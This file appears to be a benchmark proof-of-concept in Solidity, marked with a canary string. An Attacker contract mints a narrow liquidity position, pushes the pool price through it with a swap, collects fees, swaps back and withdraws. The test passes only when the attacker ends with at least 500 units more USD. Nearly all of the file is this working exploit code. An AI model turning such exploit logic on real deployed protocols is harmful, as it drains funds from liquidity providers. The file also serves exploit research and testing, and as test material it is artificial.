// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker {
    function run(PositionNotes notes, Router router, IPool main, IERC20 grain, IERC20 usd) external {
        usd.approve(address(router), type(uint256).max);
        grain.approve(address(notes), type(uint256).max);
        grain.approve(address(router), type(uint256).max);
        (uint256 id, , , ) = notes.mint(
            INotes.Request(address(main), 90, 100, 50_000e18, 0, 0, 0, address(this), block.timestamp)
        );
        uint160 price = main.slot().price;
        IRouter.Hop memory up = IRouter.Hop(address(usd), address(grain), 3_000);
        router.upTo(up, usd.balanceOf(address(this)), 1, Grid.priceAt(91), address(this), block.timestamp);
        notes.collect(id, address(this), type(uint128).max, type(uint128).max);
        IRouter.Hop memory down = IRouter.Hop(address(grain), address(usd), 3_000);
        router.upTo(down, grain.balanceOf(address(this)), 1, price, address(this), block.timestamp);
        notes.decrease(id, notes.noteOf(id).liquidity, 0, 0, block.timestamp);
        notes.collect(id, address(this), type(uint128).max, type(uint128).max);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 50_000e18);
        grain.mint(address(other), 50_000e18);
    }

    function exploit() public {
        other.run(notes, router, main, grain, usd);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(other));
        exploit();
        require(usd.balanceOf(address(other)) >= before + 500e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
